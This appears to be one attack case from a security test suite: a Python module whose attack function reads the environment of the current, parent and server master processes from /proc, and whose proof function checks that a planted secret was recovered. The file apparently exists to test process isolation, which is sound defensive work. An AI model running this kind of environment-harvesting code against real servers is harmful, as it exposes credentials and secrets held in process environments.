"""Read the server's environment from /proc."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

SHARED = True


def attack(given: Given) -> object:
    import os

    found, refusal = [], None
    for process in ("self", os.getppid(), given.master):
        try:
            with open(f"/proc/{process}/environ", "rb") as file:
                found.append(file.read())
        except OSError as error:
            refusal = error
    if refusal and not any(found):
        raise refusal
    return b"\n".join(found)


def proof(scene: Scene) -> str | None:
    return scene.brought_back(scene.secrets["environment"], "a variable of the server's")
